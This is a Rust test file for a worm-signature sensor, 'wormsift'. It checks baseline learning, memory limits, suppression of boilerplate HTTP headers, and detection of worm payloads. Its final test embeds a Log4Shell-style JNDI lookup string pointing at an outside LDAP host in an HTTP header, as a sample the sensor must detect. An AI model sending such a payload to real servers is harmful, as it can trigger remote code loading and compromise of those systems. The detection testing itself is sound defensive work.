//! What is known to be good raises no alarm, and nothing else is lost with it.

use crate::common::{Random, datagram, frames, outbreak_frames};
use std::net::Ipv4Addr;
use wormsift::config::Config;
use wormsift::error::BaselineError;
use wormsift::pipeline::{Baseline, Sensor};
use wormsift::signature::{Finding, Signature};

fn signatures(findings: Vec<Finding>) -> Vec<Signature> {
    let new = |finding| match finding {
        Finding::Signature(it) => Some(it),
        Finding::Update(_) | Finding::Summary(_) => None,
    };
    findings.into_iter().filter_map(new).collect()
}

fn sift(sensor: &mut Sensor, stored: &[(u64, Vec<u8>)], batch: usize) -> Vec<Signature> {
    for batch in frames(stored).chunks(batch) {
        sensor.sift(batch);
    }
    sensor.finish();
    signatures(sensor.findings())
}

fn every_window() -> Config {
    with("")
}

/// Every window kept, and this changed.
fn with(setting: &str) -> Config {
    Config::from_toml(&format!("sampling = '1'\nmemory = '64MiB'\n{setting}")).unwrap()
}

/// Sixty hosts send each payload to another host outside, six a second.
fn spread(sensor: &mut Sensor, payloads: impl Fn(u8) -> Vec<u8>) -> Vec<Signature> {
    let mut worker = sensor.worker();
    for i in 0..60_u8 {
        let payload = payloads(i);
        worker.observe(&datagram(
            u64::from(i) + 1,
            u64::from(i) * 160_000_000,
            (Ipv4Addr::new(10, 0, 0, i).into(), 4_000 + u16::from(i)),
            (Ipv4Addr::new(10, 9, 0, i).into(), 8_080),
            &payload,
        ));
    }
    sensor.absorb([&mut worker]);
    sensor.finish();
    signatures(sensor.findings())
}

#[test]
fn what_a_learning_period_saw_is_silent_then_and_later_and_the_rest_is_found() {
    let (seen, unseen) = (outbreak_frames(3, 6_000), outbreak_frames(4, 6_000));
    let learning = with("learning_period = '1d'");
    let mut kept = Vec::new();
    for batch in [6_000, 77] {
        let mut sensor = Sensor::new(learning.clone()).unwrap();
        assert_eq!(sift(&mut sensor, &seen, batch), []);
        assert!(sensor.stats().content.learned > 1_000);
        kept.push(sensor.baseline().unwrap().write());
    }
    assert_eq!(kept[0], kept[1], "the batch size changes nothing");

    let knowing = || {
        let baseline = Baseline::read(&every_window(), &kept[0]).unwrap();
        Sensor::with_baseline(every_window(), baseline).unwrap()
    };
    let mut sensor = knowing();
    assert_eq!(sift(&mut sensor, &seen, 1_000), []);
    assert!(sensor.stats().content.known_good > 1_000);
    assert!(!sift(&mut Sensor::new(every_window()).unwrap(), &seen, 1_000).is_empty());

    let found = sift(&mut knowing(), &unseen, 1_000);
    let expected = sift(&mut Sensor::new(every_window()).unwrap(), &unseen, 1_000);
    assert!(!found.is_empty());
    let contents = |all: &[Signature]| -> Vec<Vec<u8>> {
        all.iter().map(|it| it.content.clone()).collect()
    };
    assert_eq!(contents(&found), contents(&expected));
}

#[test]
fn the_learning_period_ends() {
    let seen = outbreak_frames(3, 6_000);
    let later: Vec<(u64, Vec<u8>)> = outbreak_frames(4, 6_000);
    // The second outbreak begins an hour after the first one.
    let shift = seen[0].0 + 3_600_000_000_000 - later[0].0;
    let later = later.into_iter().map(|(time, frame)| (time + shift, frame));
    let both: Vec<_> = seen.into_iter().chain(later).collect();
    let config = with("learning_period = '30m'");
    let found = sift(&mut Sensor::new(config).unwrap(), &both, 1_000);
    let alone = sift(&mut Sensor::new(every_window()).unwrap(), &both[6_000..], 1_000);
    assert!(!found.is_empty());
    assert_eq!(found[0].content, alone[0].content);
}

#[test]
fn a_baseline_of_other_settings_or_too_large_a_one_is_refused() {
    let file = Baseline::new(&every_window(), 1 << 20, 1e-6).write();
    let other = with("beta = 32");
    let refused = Baseline::read(&other, &file).unwrap_err().to_string();
    assert!(refused.contains("beta = 40") && refused.contains("beta = 32"), "{refused}");
    let key = with("key = '000102030405060708090a0b0c0d0e0f'");
    assert_eq!(Baseline::read(&key, &file).unwrap_err(), BaselineError::Key);
    let mine = Baseline::new(&every_window(), 1 << 20, 1e-6);
    assert!(Sensor::with_baseline(key, mine).is_err());
    let large = Baseline::new(&every_window(), 40 << 20, 1e-6);
    assert!(Sensor::with_baseline(every_window(), large).is_err());
}

#[test]
fn a_baseline_is_part_of_the_memory() {
    for (baseline, learning) in [(1 << 20, "0ns"), (24 << 20, "0ns"), (0, "1s")] {
        let config = with(&format!("learning_period = '{learning}'"));
        let sensor = if baseline > 0 {
            let known = Baseline::new(&config, baseline, 1e-6);
            Sensor::with_baseline(config, known).unwrap()
        } else {
            Sensor::new(config).unwrap()
        };
        let memory = sensor.stats().memory;
        assert!(memory.baseline_bytes >= 1 << 19, "{memory:?}");
        assert!(memory.total_bytes <= memory.budget_bytes, "{memory:?}");
    }
}

const HEADERS: &str = "\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\n\
    User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
    Chrome/120.0.0.0 Safari/537.36\r\nConnection: keep-alive\r\n\r\n";

/// The frame of a certificate, with random bytes for its key.
fn certificate(random: &mut Random) -> Vec<u8> {
    let rsa = b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00";
    let key = b"\x03\x82\x01\x0f\x00\x30\x82\x01\x0a\x02\x82\x01\x01\x00";
    [&rsa[..], key, &random.bytes(256), b"\x02\x03\x01\x00\x01"].concat()
}

#[test]
fn headers_are_kept_back_and_counted_and_found_on_demand() {
    let from =
        |i: u8| format!("GET /{i} HTTP/1.1\r\nHost: h{i}.example{HEADERS}").into_bytes();
    let mut sensor = Sensor::new(every_window()).unwrap();
    assert_eq!(spread(&mut sensor, from), []);
    let stats = sensor.stats();
    assert!(stats.signatures.suppressed > 0);
    assert!(stats.suppressed["http"] > 0);
    let kept_back = sensor.suppressed();
    assert_eq!(kept_back[0].by.name(), "http");
    assert!(kept_back[0].length >= HEADERS.len(), "{kept_back:?}");
    let config = with("boilerplate = false");
    assert!(!spread(&mut Sensor::new(config).unwrap(), from).is_empty());
}

#[test]
fn a_worm_among_headers_or_with_a_certificate_is_found_whole() {
    let mut random = Random(7);
    // As short as the rule lets stand by itself, and longer.
    for length in [20, 24, 60, 400] {
        let body = random.bytes(length);
        let worm = [HEADERS.as_bytes(), &body, HEADERS.as_bytes()].concat();
        let found = spread(&mut Sensor::new(every_window()).unwrap(), |_| worm.clone());
        assert_eq!(found.len(), 1, "{length}");
        assert_eq!(found[0].content, worm, "{length}");
    }
    let certificate = certificate(&mut random);
    let worm = [&random.bytes(90)[..], &certificate].concat();
    let found = spread(&mut Sensor::new(every_window()).unwrap(), |_| worm.clone());
    assert_eq!(found[0].content, worm);
    let attack = HEADERS.replace("*/*", "${jndi:ldap://192.0.2.7:1389/a}");
    let found =
        spread(&mut Sensor::new(every_window()).unwrap(), |_| attack.clone().into());
    assert_eq!(found[0].content, attack.as_bytes());
}
